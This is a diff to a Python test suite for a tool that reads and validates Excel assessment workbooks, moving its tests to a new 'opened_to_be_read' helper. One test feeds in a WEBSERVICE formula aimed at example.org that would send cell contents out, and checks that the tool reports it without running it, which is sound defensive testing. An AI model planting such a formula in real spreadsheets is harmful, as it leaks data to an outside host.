@@ -50,6 +50,7 @@ from tests.support.edited_workbooks import (
     find,
     looked_into,
     opened,
+    opened_to_be_read,
     read,
     saved,
 )
@@ -271,7 +272,7 @@ def test_date_with_an_offset_is_written_as_text_and_refused() -> None:
 def test_control_characters_that_a_cell_holds_are_said_and_left_out(
     workbooks: Mapping[str, bytes],
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = "a_x0007_b_x000B_c_x000D__x000A_d"
     reading = read(saved(book), Stage.SUBMISSION)
     assert reading.assessment is not None
@@ -445,7 +446,7 @@ TRIED = (
     "what", [w if w in TRIED else pytest.param(w, marks=pytest.mark.prove) for w in DONE]
 )
 def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], cases: Cases) -> None:
-    book = opened(workbooks["high_with_gap"])
+    book = opened_to_be_read(workbooks["high_with_gap"])
     DONE[what](book)
     content = saved(book)
     reading = read(content, Stage.SUBMISSION, on=DAYS["high_with_gap"])
@@ -463,7 +464,7 @@ def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], case
 def test_problems_are_put_at_the_cell_where_the_answer_now_stands(
     what: str, workbooks: Mapping[str, bytes]
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     answer(book, "factors.P2.rating").value = "Hihg"
     DONE[what](book)
     problems = read(saved(book)).problems
@@ -479,7 +480,7 @@ def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(
     workbooks: Mapping[str, bytes],
 ) -> None:
     """Excel moves names and validations along with a cut cell; the key in its row stays."""
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     sheet, row = find(book, "factors.R1.own_view")
     _, other = find(book, "factors.R4.own_view")
     view = sheet.cell(row, 3).value
@@ -498,7 +499,7 @@ def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(
 def test_required_answer_that_was_cut_is_missed_where_it_was(
     workbooks: Mapping[str, bytes],
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     sheet, row = find(book, "factors.P3.rating")
     _, other = find(book, "factors.P4.own_view")
     sheet.move_range(f"C{row}:C{row}", rows=other - row)
@@ -507,7 +508,7 @@ def test_required_answer_that_was_cut_is_missed_where_it_was(
 
 
 def test_table_row_that_was_cut_and_pasted_is_another_row(workbooks: Mapping[str, bytes]) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     sheet, row = find(book, "actions.A9")
     sheet.move_range(f"D{row}:Q{row}", rows=5)
     reading = read(saved(book))
@@ -517,7 +518,7 @@ def test_table_row_that_was_cut_and_pasted_is_another_row(workbooks: Mapping[str
 
 
 def test_unused_rows_may_be_deleted(workbooks: Mapping[str, bytes], cases: Cases) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     for key, count in (("actions.A10", 21), ("sources.E9", 12), ("rounds.SO2", 9)):
         sheet, row = find(book, key)
         sheet.delete_rows(row, count)
@@ -537,13 +538,13 @@ def lost(reading: Reading) -> list[str]:
 def test_sheet_that_was_deleted_is_missed_and_nothing_else_is_said(
     name: str, workbooks: Mapping[str, bytes]
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     del book[name]
     assert lost(read(saved(book))) == sorted(s.key for s in FORM.sections if s.sheet == name)
 
 
 def test_problems_of_other_parts_are_said_beside_a_lost_one(workbooks: Mapping[str, bytes]) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     del book["Actions"]
     cell = answer(book, "overall.level")
     cell.value = "Hihg"
@@ -555,7 +556,7 @@ def test_problems_of_other_parts_are_said_beside_a_lost_one(workbooks: Mapping[s
 
 
 def test_factor_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     sheet, row = find(book, "factors.R4.rating")
     sheet.delete_rows(row - 1, 14)
     problems = read(saved(book)).problems
@@ -571,7 +572,7 @@ def column_deleted(book: Workbook) -> tuple[Worksheet, int]:
 
 
 def test_column_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     column_deleted(book)
     assert lost(read(saved(book))) == ["actions"]
 
@@ -579,7 +580,7 @@ def test_column_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> No
 @pytest.mark.parametrize("rows", [1, 40], ids=["row of keys", "every row"])
 def test_table_that_was_deleted_is_missed(rows: int, workbooks: Mapping[str, bytes]) -> None:
     """Restricted information must not be lost without a word."""
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     sheet, keys = find(book, "restricted")
     assert sheet.cell(keys + 2, 4).value
     sheet.delete_rows(keys, rows)
@@ -599,7 +600,7 @@ def test_table_that_was_deleted_is_missed(rows: int, workbooks: Mapping[str, byt
 def test_what_is_written_under_a_table_is_not_left_out_unseen(
     name: str, down: int, column: int, part: str, workbooks: Mapping[str, bytes]
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     cell = book[name].cell(book[name].max_row + down, column)
     cell.value = "A31 and more"
     (problem,) = read(saved(book)).problems
@@ -614,7 +615,7 @@ def test_what_is_written_under_a_table_is_not_left_out_unseen(
 def test_what_is_written_under_a_form_is_not_left_out_unseen(
     workbooks: Mapping[str, bytes],
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     cell = book["Overall"].cell(book["Overall"].max_row + 3, 3)
     cell.value = "and more"
     (problem,) = read(saved(book)).problems
@@ -632,7 +633,7 @@ def test_workbook_made_with_other_words_about_a_factor_is_read(cases: Cases) -> 
 def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(
     workbooks: Mapping[str, bytes],
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     for name in lay_out(FORM):
         book.copy_worksheet(book[name])
     assert read(saved(book)).problems == ()
@@ -641,7 +642,7 @@ def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(
 def test_answer_in_either_of_two_copies_is_found(
     workbooks: Mapping[str, bytes], cases: Cases
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     copy = book.copy_worksheet(book["Overall"])
     for _, row, column, _ in answer_cells(lay_out(FORM)["Overall"]):
         book["Overall"].cell(row, column).value = None  # somebody went on in the copy
@@ -657,7 +658,7 @@ def test_answer_in_either_of_two_copies_is_found(
 def test_question_that_two_copies_leave_blank_is_said_at_the_first(
     workbooks: Mapping[str, bytes],
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     cell = answer(book, "overall.level")
     cell.value = None
     book.copy_worksheet(book["Overall"])
@@ -695,7 +696,7 @@ VALUES: tuple[tuple[str, Any, list[Code]], ...] = (
 def test_cell_is_read_as_it_really_arrives(
     key: str, value: object, codes: list[Code], workbooks: Mapping[str, bytes]
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     answer(book, key).value = value  # type: ignore[assignment]
     problems = read(saved(book)).problems
     assert [(p.code, str(p.place)) for p in problems] == [(code, key) for code in codes]
@@ -704,7 +705,7 @@ def test_cell_is_read_as_it_really_arrives(
 def test_problem_for_a_formula_quotes_it_and_does_not_run_it(
     workbooks: Mapping[str, bytes],
 ) -> None:
-    book = opened(workbooks["medium_low"])
+    book = opened_to_be_read(workbooks["medium_low"])
     answer(book, "factors.R1.rationale").value = '=WEBSERVICE("https://example.org/"&A1)'
     (problem,) = read(saved(book)).problems
     assert problem.typed == '=WEBSERVICE("https://example.org/"&A1)'
